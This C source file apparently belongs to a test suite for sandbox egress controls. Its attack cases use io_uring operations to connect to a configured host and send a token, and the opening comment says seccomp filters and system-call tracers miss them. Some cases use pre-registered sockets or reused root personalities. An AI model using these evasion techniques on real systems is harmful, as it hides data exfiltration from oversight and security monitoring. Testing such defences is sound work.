// The same calls through io_uring, which seccomp filters and system-call tracers don't see.
#include "attack.h"
#include <linux/io_uring.h>
#include <sys/mman.h>

struct ring {
    int fd;
    uint32_t *head, *tail, *mask, *array, *done_head, *done_tail, *done_mask;
    struct io_uring_sqe *entries;
    struct io_uring_cqe *done;
};

static void *map(int fd, size_t length, off_t offset)
{
    void *at = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, offset);
    if (at == MAP_FAILED)
        stopped("mmap");
    return at;
}

static struct ring set_up(void)
{
    struct io_uring_params params = {0};
    struct ring ring = {.fd = must((int)syscall(SYS_io_uring_setup, 4, &params), "io_uring_setup")};
    char *submitted = map(ring.fd, params.sq_off.array + params.sq_entries * 4, IORING_OFF_SQ_RING);
    char *completed =
        map(ring.fd, params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
    ring.entries = map(ring.fd, params.sq_entries * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
    ring.tail = (void *)(submitted + params.sq_off.tail);
    ring.mask = (void *)(submitted + params.sq_off.ring_mask);
    ring.array = (void *)(submitted + params.sq_off.array);
    ring.done_head = (void *)(completed + params.cq_off.head);
    ring.done_mask = (void *)(completed + params.cq_off.ring_mask);
    ring.done = (void *)(completed + params.cq_off.cqes);
    return ring;
}

// Does one operation and returns its result.
static int operate(struct ring *ring, struct io_uring_sqe operation, const char *step)
{
    uint32_t at = *ring->tail & *ring->mask;
    // Asked to, the kernel hands every operation to a worker thread.
    operation.flags |= IOSQE_ASYNC;
    ring->entries[at] = operation;
    ring->array[at] = at;
    __atomic_store_n(ring->tail, *ring->tail + 1, __ATOMIC_RELEASE);
    must((int)syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0), "io_uring_enter");
    int result = ring->done[*ring->done_head & *ring->done_mask].res;
    __atomic_store_n(ring->done_head, *ring->done_head + 1, __ATOMIC_RELEASE);
    if (result < 0) {
        errno = -result;
        stopped(step);
    }
    return result;
}

// With the credentials of a personality that was registered; 0 for one's own.
static void connect_and_send_as(struct ring *ring, int fd, uint16_t personality)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    operate(ring,
            (struct io_uring_sqe){.opcode = IORING_OP_CONNECT,
                                  .fd = fd,
                                  .addr = (uintptr_t)&to,
                                  .off = sizeof to,
                                  .personality = personality},
            "connect");
    operate(ring,
            (struct io_uring_sqe){.opcode = IORING_OP_SEND,
                                  .fd = fd,
                                  .addr = (uintptr_t)token(),
                                  .len = (uint32_t)strlen(token()),
                                  .msg_flags = MSG_NOSIGNAL,
                                  .personality = personality},
            "send");
    sent();
}

static void connect_and_send(struct ring *ring, int fd)
{
    connect_and_send_as(ring, fd, 0);
}

ATTACK(uring_connect)
{
    struct ring ring = set_up();
    connect_and_send(&ring, tcp4());
}

ATTACK(uring_socket)
{
    struct ring ring = set_up();
    int fd = operate(
        &ring, (struct io_uring_sqe){.opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM}, "socket");
    connect_and_send(&ring, fd);
}

ATTACK(uring_sendmsg)
{
    struct ring ring = set_up();
    struct sockaddr_in to = v4("WIRE4", "PORT");
    struct iovec data = {(void *)token(), strlen(token())};
    struct msghdr message = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &data, .msg_iovlen = 1};
    operate(&ring,
            (struct io_uring_sqe){.opcode = IORING_OP_SENDMSG, .fd = udp4(), .addr = (uintptr_t)&message, .len = 1},
            "sendmsg");
    sent();
}

// Registered with a ring and closed, so that no process has a descriptor of it when the agent starts.
ATTACK(before_uring)
{
    struct ring ring = set_up();
    struct sockaddr_in to = v4("WIRE4", "PORT");
    int fd = tcp4();
    connect_to(fd, &to, sizeof to);
    must((int)syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, &fd, 1), "io_uring_register");
    must(close(fd), "close");
    say("ready");
    wait_for_go();
    operate(&ring,
            (struct io_uring_sqe){.opcode = IORING_OP_SEND,
                                  .fd = 0,
                                  .flags = IOSQE_FIXED_FILE,
                                  .addr = (uintptr_t)token(),
                                  .len = (uint32_t)strlen(token()),
                                  .msg_flags = MSG_NOSIGNAL},
            "send");
    sent();
}

static struct ring roots;
static uint16_t root;

// Root makes a ring and registers itself with it, as a service may that then gives up its privileges.
static void register_root(void)
{
    roots = set_up();
    root = (uint16_t)must((int)syscall(SYS_io_uring_register, roots.fd, IORING_REGISTER_PERSONALITY, NULL, 0),
                          "io_uring_register");
}

ATTACK_AFTER(uring_personality, register_root) { connect_and_send_as(&roots, tcp4(), root); }

// Only CAP_NET_RAW may make such a socket; whoever holds it may send.
ATTACK_AFTER(uring_personality_raw, register_root)
{
    struct sockaddr_in to = v4("WIRE4", "PORT");
    to.sin_port = 0;
    int fd = operate(&roots,
                     (struct io_uring_sqe){.opcode = IORING_OP_SOCKET,
                                           .fd = AF_INET,
                                           .off = SOCK_RAW,
                                           .len = 253 /* for experiments: RFC 3692 */,
                                           .personality = root},
                     "socket");
    send_token_to(fd, &to, sizeof to);
    sent();
}
